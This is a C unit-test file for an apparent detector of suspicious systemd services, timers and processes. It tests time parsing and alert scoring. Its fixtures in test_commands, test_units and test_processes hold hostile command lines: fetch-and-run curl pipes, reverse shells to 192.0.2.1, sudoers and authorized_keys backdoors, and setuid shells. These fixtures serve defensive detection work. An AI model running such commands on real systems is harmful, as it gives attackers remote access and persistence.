#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "unitward/detect.h"
#include "unitward/unit_schedule.h"
#include "unitward/util.h"

#define MINUTE UINT64_C(60000000)
#define DAY (24 * 60 * MINUTE)

/* ---- Time -------------------------------------------------------------------------------------------------- */

static void test_spans(void **state)
{
        static const struct {
                const char *text;
                uint64_t usec;
        } cases[] = {
                { "90", 90000000 },         { "1h 30min", 90 * MINUTE }, { "2.5s", 2500000 },
                { "0.5min", MINUTE / 2 },   { "500ms", 500000 },         { "1d", DAY },
                { "90000000us", 90000000 }, { "1M", 2629800000000 },     { "5m", 5 * MINUTE },
                { "1.5 h", 90 * MINUTE },   { "10min", 10 * MINUTE },
        };
        static const char *const wrong[] = { "",         "x",  "1 fortnight",  "-5", "5 5x", "9999999999999",
                                             "infinity", ".5", "999999999999y" };
        uint64_t usec;

        (void)state;
        for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
                if (!unit_parse_span(cases[i].text, &usec) || usec != cases[i].usec)
                        fail_msg("%s", cases[i].text);
        }
        for (size_t i = 0; i < ARRAY_SIZE(wrong); i++)
                if (unit_parse_span(wrong[i], &usec))
                        fail_msg("%s", wrong[i]);
}

static void test_calendar(void **state)
{
        static const struct {
                const char *text;
                uint64_t seconds;
        } cases[] = {
                { "minutely", 60 },
                { "hourly", 3600 },
                { "daily", 86400 },
                { "Mon *-*-* 03:00:00", 86400 },
                { "*:0/5", 300 },
                { "*:0/7", 240 }, /* 56 and 0 */
                { "*-*-* *:*:00", 60 },
                { "*:*:0/10", 10 },
                { "*:*:*", 1 },
                { "*:*", 60 },
                { "06,18:00", 12 * 3600 },
                { "23:59,0:00", 3540 },
                { "0,23:00", 3600 },
                { "9..17:30", 3600 },
                { "9..17/2:00:00", 2 * 3600 },
                { "*-*-* 6:00 Europe/Berlin", 86400 },
                { "2026-11-26", 86400 },
                { "Mon..Fri 22:30", 86400 },
                { "*:0,1", 60 },
                { "*:0..59/20", 1200 },
                { "0:59,0:0:30", 0 },
                { "*:59,0:0,50", 10 },
                { "*-*-* *:*:0/0.5", 1 },
                { "", 0 },
                { "61:00", 0 },
                { "12:xx", 0 },
                { "3 4", 0 },
        };

        (void)state;
        for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
                uint64_t usec = unit_calendar_interval(cases[i].text);

                if (usec != cases[i].seconds * 1000000)
                        fail_msg("%s: %llu", cases[i].text, (unsigned long long)usec / 1000000);
        }
}

static void test_timers(void **state)
{
        static const struct {
                const char *text;
                uint64_t seconds;
        } cases[] = {
                { "[Timer]\nOnCalendar=daily\n", 86400 },
                { "[Timer]\nOnBootSec=1min\n", 0 },
                { "[Timer]\nOnBootSec=1min\nOnUnitActiveSec=5min\n", 300 },
                { "[Timer]\nOnCalendar=daily\nOnCalendar=*:0/15\n", 900 },
                { "[Timer]\nOnCalendar=minutely\nOnCalendar=\nOnCalendar=daily\n", 86400 },
                { "[Timer]\nOnUnitInactiveSec=0\n", 1 },
                { "[Unit]\nOnCalendar=minutely\n", 0 },
        };

        (void)state;
        for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
                struct detect_contents contents = { 0 };

                assert_int_equal(detect_contents_add(&contents, "x.timer", cases[i].text, strlen(cases[i].text), false),
                                 0);
                if (contents.interval_usec != cases[i].seconds * 1000000)
                        fail_msg("%s: %llu", cases[i].text, (unsigned long long)contents.interval_usec);
        }
}

/* ---- What a unit says ------------------------------------------------------------------------------------- */

static void describe(uint64_t reasons, char *to, size_t size)
{
        size_t at = 0;

        *to = '\0';
        for (size_t i = 0; i < detect_n_reasons() && at < size; i++)
                if (reasons >> i & 1)
                        at += (size_t)snprintf(to + at, size - at, "%s%s", at > 0 ? " " : "", detect_reason_id(i));
}

static void test_commands(void **state)
{
        /* In the order of the table. */
        static const struct {
                const char *command, *reasons;
        } cases[] = {
                { "/usr/sbin/cron -f", "" },
                { "/bin/sh -c 'echo hello > /tmp/x'", "inline-program" },
                { "/bin/sh -c 'curl -s https://a.example/x | sh'", "fetch-and-run network-tool inline-program" },
                { "/bin/bash -c 'bash -c \"curl https://a.example/x | sudo bash -s\"'",
                  "fetch-and-run network-tool inline-program" },
                { "/bin/bash -c 'bash <(wget -qO- a.example)'", "fetch-and-run network-tool inline-program" },
                { "/bin/bash -c '$(curl -fsSL a.example)'", "fetch-and-run network-tool inline-program" },
                { "/bin/sh -c 'eval \"$(echo aWQ= | base64 -d)\"'", "encoded inline-program" },
                { "/bin/sh -c 'echo curl -s a.example | sh'", "fetch-and-run inline-program" },
                { "/bin/sh -c 'echo curl is missing | logger'", "inline-program" },
                { "/bin/sh -c 'echo bash | nc -N a.example 80'", "network-tool inline-program" },
                { "/bin/sh -c 'echo \"x ALL=(ALL) NOPASSWD:ALL\" > /etc/sudoers.d/x'", "gives-access inline-program" },
                { "/bin/sh -c 'f() { curl a.example | sh; }; f'", "fetch-and-run network-tool inline-program" },
                { "/bin/sh -c 'curl -o /var/lib/a/b a.example/b && chmod +x /var/lib/a/b; /var/lib/a/b'",
                  "fetch-and-run network-tool inline-program" },
                { "/bin/sh -c 'cd /tmp && wget http://a.example/run.py; python3 run.py'",
                  "program-temporary fetch-and-run network-tool inline-program" },
                { "/bin/sh -c 'curl -sf http://127.0.0.1/health || exit 1'", "network-tool inline-program" },
                { "/bin/sh -c 'curl -s https://a.example/list | grep x > /run/list'", "network-tool inline-program" },
                { "/bin/bash -c 'bash -i >& /dev/tcp/192.0.2.1/443 0>&1'", "reverse-shell inline-program" },
                { "/bin/bash -c 'until </dev/tcp/127.0.0.1/5432; do sleep 1; done'", "network-tool inline-program" },
                { "/bin/sh -c 'rm -f /run/f;mkfifo /run/f;cat /run/f|/bin/sh -i 2>&1|nc 192.0.2.1 9 >/run/f'",
                  "reverse-shell network-tool inline-program" },
                { "/usr/bin/nc -e /bin/sh 192.0.2.1 4444", "reverse-shell network-tool" },
                { "/usr/bin/socat TCP:192.0.2.1:9 EXEC:/bin/bash,pty", "reverse-shell network-tool" },
                { "/usr/bin/socat TCP-LISTEN:80,fork TCP:127.0.0.1:8080", "network-tool" },
                { "/usr/bin/python3 -c 'import socket,os,pty;s=socket.socket();pty.spawn(\"/bin/sh\")'",
                  "reverse-shell inline-program" },
                { "/usr/bin/perl -MSocket -e 'use Socket;exec(\"/bin/sh -i\")'", "reverse-shell inline-program" },
                { "/usr/bin/python3 -c 'exec(__import__(\"base64\").b64decode(\"aWQ=\"))'", "encoded inline-program" },
                { "/usr/bin/python3 -c 'import os;os.memfd_create(\"a\")'", "code-in-memory inline-program" },
                { "/bin/sh -c 'echo Y3Vyb | base64 --decode | sh'", "encoded inline-program" },
                { "/bin/sh -c 'gunzip -c /var/log/a.gz | grep x'", "inline-program" },
                { "/bin/bash /proc/self/fd/3", "code-in-memory" },
                { "/usr/bin/php https://a.example/x.php", "url-program" },
                { "/dev/shm/x", "program-temporary" },
                { "/opt/.cache/x", "program-hidden" },
                { "/root/x", "program-home" },
                { "/bin/bash /var/tmp/run.sh", "program-temporary" },
                { "/bin/bash -euo pipefail /usr/local/bin/backup", "" },
                { "/bin/bash -euo pipefail -c 'true'", "inline-program" },
                { "/lib64/ld-linux-x86-64.so.2 /tmp/x", "program-temporary inline-program" },
                { "/bin/sh -c 'echo ssh-rsa AAAA >> /root/.ssh/authorized_keys'", "gives-access inline-program" },
                { "/bin/sh -c 'cp /bin/bash /usr/lib/b; chmod 4755 /usr/lib/b'", "gives-access inline-program" },
                { "/bin/sh -c 'grep -q root /etc/passwd'", "inline-program" },
                { "/bin/chmod 1777 /tmp", "" },
                { "@/usr/local/bin/a [kworker/0:1]", "imitates" },
                { "@/usr/sbin/sshd sshd -D", "" },
                { "/bin/sh -c 'exec -a kworker /usr/local/bin/a'", "inline-program imitates" },
        };

        (void)state;
        for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
                _cleanup_free_ char *text = format("[Service]\nExecStart=%s\n", cases[i].command);
                struct detect_contents contents = { 0 };
                char found[512];

                assert_int_equal(detect_contents_add(&contents, "x.service", text, strlen(text), false), 0);
                describe(contents.reasons, found, sizeof found);
                if (!streq(found, cases[i].reasons))
                        fail_msg("%s: \"%s\", not \"%s\"", cases[i].command, found, cases[i].reasons);
        }
}

static void test_units(void **state)
{
        static const struct {
                const char *unit, *text, *reasons;
        } cases[] = {
                { "x.service", "[Service]\nEnvironment=LD_PRELOAD=/usr/lib/x.so\n", "libraries" },
                { "x.service", "[Service]\nEnvironment=\"CMD=curl a.example | sh\"\nExecStart=/bin/sh -c $CMD\n",
                  "fetch-and-run inline-program" },
                { "x.service", "[Service]\nEnvironmentFile=-/dev/shm/env\n", "program-temporary" },
                { "x.service", "[Service]\nEnvironmentFile=-/etc/default/x\n", "" },
                { "x@.service", "[Service]\nStandardInput=socket\nExecStart=-/bin/bash -i\n", "reverse-shell" },
                { "x@.service", "[Service]\nStandardInput=socket\nExecStart=/usr/sbin/sshd -i\n", "" },
                { "x.service", "[Service]\nExecStartPost=/tmp/x\nExecStart=/bin/true\n", "program-temporary" },
                { "x.service", "[Service]\n\xff\xfe\nExecStart=/tmp/x\n", "" },
        };

        (void)state;
        for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
                struct detect_contents contents = { 0 };
                char found[512];

                assert_int_equal(
                        detect_contents_add(&contents, cases[i].unit, cases[i].text, strlen(cases[i].text), false), 0);
                describe(contents.reasons, found, sizeof found);
                if (!streq(found, cases[i].reasons))
                        fail_msg("%s: \"%s\", not \"%s\"", cases[i].text, found, cases[i].reasons);
        }
}

/* What the unit, its drop-ins and its timer say adds up. */
static void test_contents_add(void **state)
{
        static const char service[] = "[Service]\nExecStart=/tmp/x\n", timer[] = "[Timer]\nOnCalendar=daily\n",
                          more[] = "[Timer]\nOnUnitActiveSec=60\n";
        struct detect_contents contents = { 0 };

        (void)state;
        assert_int_equal(detect_contents_add(&contents, "x.timer", timer, strlen(timer), false), 0);
        assert_int_equal(detect_contents_add(&contents, "x.service", service, strlen(service), false), 0);
        assert_true(contents.reasons != 0);
        assert_int_equal(contents.interval_usec, DAY);
        assert_int_equal(detect_contents_add(&contents, "x.timer", more, strlen(more), false), 0);
        assert_int_equal(contents.interval_usec, MINUTE);
        /* A user may run what lies in his home. */
        contents = (struct detect_contents){ 0 };
        assert_int_equal(detect_contents_add(&contents, "x.service", "[Service]\nExecStart=/home/a/x\n", 31, true), 0);
        assert_int_equal(contents.reasons, 0);
}

/* ---- What was started ------------------------------------------------------------------------------------- */

#define ARGUMENTS(text) .arguments = (text), .arguments_size = sizeof(text)

static void test_processes(void **state)
{
        static const struct {
                struct detect_start start;
                const char *reasons;
        } cases[] = {
                { { .program = "/usr/sbin/cron", ARGUMENTS("/usr/sbin/cron\0-f") }, "" },
                { { .program = "/usr/bin/dash", ARGUMENTS("/bin/sh\0-c\0curl a.example|sh") },
                  "fetch-and-run network-tool inline-program" },
                { { .program = "/usr/bin/busybox", ARGUMENTS("sh\0-c\0curl a.example|sh") },
                  "fetch-and-run network-tool inline-program" },
                { { .program = "/usr/bin/dash", ARGUMENTS("innocent\0-c\0curl a.example|sh") },
                  "fetch-and-run network-tool inline-program" },
                { { .program = "/memfd:x (deleted)", ARGUMENTS("/usr/sbin/cron") }, "program-memfd" },
                { { .program = "/dev/shm/x (deleted)" }, "program-temporary" },
                { { .program = "/usr/local/bin/x", ARGUMENTS("[kworker/1:2]") }, "imitates" },
                { { .program = "/usr/bin/dash", ARGUMENTS("/bin/sh\0/tmp/x.sh") }, "program-temporary" },
                { { .program = NULL }, "" },
                { { .parent = DETECT_PARENT_USER, .program = "/home/a/bin/x", ARGUMENTS("x") }, "" },
                { { .parent = DETECT_PARENT_SYSTEM, .program = "/home/a/bin/x", ARGUMENTS("x") }, "program-home" },
        };

        (void)state;
        for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
                char found[512];

                describe(detect_process(&cases[i].start), found, sizeof found);
                if (!streq(found, cases[i].reasons))
                        fail_msg("case %zu: \"%s\", not \"%s\"", i, found, cases[i].reasons);
        }
}

/* ---- The decision ------------------------------------------------------------------------------------------ */

static const struct detect_start ordinary_start = {
        .parent = DETECT_PARENT_SYSTEM, .parent_pid = 1, .pid = 100, .uid = 0, .program = "/usr/sbin/cron"
};
static const struct detect_unit ordinary_unit = { .name = "cron.service",
                                                  .path = "/lib/systemd/system/cron.service",
                                                  .owned = true };

static struct detect_result judge(const struct detect_settings *settings, const struct detect_start *start,
                                  const struct detect_unit *unit)
{
        struct detect_settings usual;
        struct detect_result result;

        detect_settings_default(&usual);
        detect_judge(settings ? settings : &usual, start, unit, detect_process(start), &result);
        return result;
}

static void expect(struct detect_result result, enum detect_outcome outcome, const char *reasons)
{
        char found[512];

        describe(result.reasons, found, sizeof found);
        assert_string_equal(found, reasons);
        if (result.outcome != outcome)
                fail_msg("%s: score %u: %s, not %s", found, result.score, detect_outcome_name(result.outcome),
                         detect_outcome_name(outcome));
}

static void test_ordinary(void **state)
{
        struct detect_unit unit = ordinary_unit;

        (void)state;
        expect(judge(NULL, &ordinary_start, &unit), DETECT_NOTHING, "runs-as-root");
        /* Installed a moment ago, by its package. */
        unit.file = (struct detect_change){ true, true, 5 * MINUTE, DETECT_AUTHOR_PACKAGE, unit.path };
        expect(judge(NULL, &ordinary_start, &unit), DETECT_NOTHING, "runs-as-root");
}

/* Nothing about it is odd but that nobody authorised it. */
static void test_quiet(void **state)
{
        const struct detect_unit unit = {
                .name = "log-rotate-helper.service",
                .path = "/etc/systemd/system/log-rotate-helper.service",
                .unauthorised = true,
                .file = { true, true, MINUTE, DETECT_AUTHOR_REFUSED, "/etc/systemd/system/log-rotate-helper.service" },
        };
        const struct detect_start start = { .parent = DETECT_PARENT_SYSTEM,
                                            .uid = 65534,
                                            .program = "/usr/local/lib/helper",
                                            .package_unknown = true };

        (void)state;
        expect(judge(NULL, &start, &unit), DETECT_ALERT, "unit-unauthorised writer-refused unit-new program-unowned");
}

/* An administrator, whom the policy lets, makes a timer for a script of his. */
static void test_allowed(void **state)
{
        const struct detect_change now = { true, true, MINUTE, DETECT_AUTHOR_ALLOWED,
                                           "/etc/systemd/system/backup.timer" };
        const struct detect_unit unit = { .name = "backup.service",
                                          .path = "/etc/systemd/system/backup.service",
                                          .file = now,
                                          .trigger = now,
                                          .contents = { 0, 5 * MINUTE } };
        const struct detect_start start = { .parent = DETECT_PARENT_SYSTEM,
                                            .program = "/usr/local/bin/backup",
                                            .package_unknown = true,
                                            .program_change = now };

        (void)state;
        expect(judge(NULL, &start, &unit), DETECT_RECORD,
               "unit-new timer-changed program-changed program-unowned interval-short runs-as-root");
}

static void test_settings(void **state)
{
        struct detect_settings settings;
        struct detect_start start = { .parent = DETECT_PARENT_USER, .uid = 1000, .program = "/usr/local/bin/x" };
        struct detect_unit unit = { .name = "x.service",
                                    .path = "/home/a/.config/systemd/user/x.service",
                                    .user = true,
                                    .unauthorised = true,
                                    .contents = { 0, 5 * MINUTE } };
        char *here[] = { (char *)(uintptr_t) "/etc/systemd/**" }, *ignored[] = { (char *)(uintptr_t) "x.*" };

        (void)state;
        detect_settings_default(&settings);
        expect(judge(&settings, &start, &unit), DETECT_ALERT, "unit-unauthorised interval-short");
        settings.timer_interval_usec = 5 * MINUTE;
        expect(judge(&settings, &start, &unit), DETECT_ALERT, "unit-unauthorised");
        settings.parents = DETECT_PARENT_SYSTEM;
        expect(judge(&settings, &start, &unit), DETECT_NOTHING, "");
        settings.parents |= DETECT_PARENT_USER;
        settings.users = DETECT_USERS_SYSTEM;
        expect(judge(&settings, &start, &unit), DETECT_NOTHING, "");
        start.uid = 999;
        expect(judge(&settings, &start, &unit), DETECT_ALERT, "unit-unauthorised");
        settings.users = DETECT_USERS_ROOT;
        expect(judge(&settings, &start, &unit), DETECT_NOTHING, "");
        start.uid = 0;
        expect(judge(&settings, &start, &unit), DETECT_ALERT, "unit-unauthorised runs-as-root");
        settings.creation_paths = here;
        settings.n_creation_paths = 1;
        expect(judge(&settings, &start, &unit), DETECT_NOTHING, "runs-as-root");
        unit.path = "/etc/systemd/user/x.service";
        expect(judge(&settings, &start, &unit), DETECT_ALERT, "unit-unauthorised runs-as-root");
        settings.deny_score = settings.stop_score = 65;
        expect(judge(&settings, &start, &unit), DETECT_STOP, "unit-unauthorised runs-as-root");
        settings.stop_score = 66;
        expect(judge(&settings, &start, &unit), DETECT_DENY, "unit-unauthorised runs-as-root");
        settings.ignored = ignored;
        settings.n_ignored = 1;
        expect(judge(&settings, &start, &unit), DETECT_NOTHING, "");
        settings.n_ignored = 0;
        settings.enabled = false;
        expect(judge(&settings, &start, &unit), DETECT_NOTHING, "");
}

static void test_window(void **state)
{
        struct detect_settings settings;
        struct detect_unit unit = { .name = "x.service", .path = "/etc/systemd/system/x.service" };

        (void)state;
        detect_settings_default(&settings);
        settings.window_usec = DAY;
        unit.file = (struct detect_change){ true, false, DAY, DETECT_AUTHOR_NONE, unit.path };
        unit.drop_in = (struct detect_change){ true, true, DAY + 1, DETECT_AUTHOR_REFUSED, unit.path };
        expect(judge(&settings, &ordinary_start, &unit), DETECT_NOTHING, "unit-changed writer-unknown runs-as-root");
        unit.file.age_usec = UINT64_MAX;
        expect(judge(&settings, &ordinary_start, &unit), DETECT_NOTHING, "runs-as-root");
}

static void test_imitation(void **state)
{
        struct detect_unit unit = { .name = "systemd-helperd.service",
                                    .path = "/etc/systemd/system/systemd-helperd.service" };

        (void)state;
        expect(judge(NULL, &ordinary_start, &unit), DETECT_NOTHING, "imitates runs-as-root");
        unit.owned = true;
        expect(judge(NULL, &ordinary_start, &unit), DETECT_NOTHING, "runs-as-root");
}

/* What is said twice counts once. */
static void test_table(void **state)
{
        struct detect_start start = ordinary_start;
        _cleanup_free_ char *text = NULL;
        struct detect_result one, two;

        (void)state;
        start.deleted = true;
        one = judge(NULL, &start, &ordinary_unit);
        start.temporary = true;
        two = judge(NULL, &start, &ordinary_unit);
        assert_int_equal(one.score, two.score);
        assert_true(one.reasons != two.reasons);
        text = detect_reasons_text(two.reasons);
        assert_string_equal(text, "the program's file is deleted; the program, or its script, lies in a temporary "
                                  "directory; it runs as root");
        assert_true(detect_n_reasons() <= DETECT_REASONS_MAX);
        for (size_t i = 0; i < detect_n_reasons(); i++) {
                assert_true(detect_reason_weight(i) > 0 && strlen(detect_reason_text(i)) > 10);
                for (size_t j = 0; j < i; j++)
                        assert_string_not_equal(detect_reason_id(i), detect_reason_id(j));
        }
}

int main(void)
{
        static const struct CMUnitTest tests[] = {
                cmocka_unit_test(test_spans),     cmocka_unit_test(test_calendar), cmocka_unit_test(test_timers),
                cmocka_unit_test(test_commands),  cmocka_unit_test(test_units),    cmocka_unit_test(test_contents_add),
                cmocka_unit_test(test_processes), cmocka_unit_test(test_ordinary), cmocka_unit_test(test_quiet),
                cmocka_unit_test(test_allowed),   cmocka_unit_test(test_settings), cmocka_unit_test(test_window),
                cmocka_unit_test(test_imitation), cmocka_unit_test(test_table),
        };

        return cmocka_run_group_tests(tests, NULL, NULL);
}
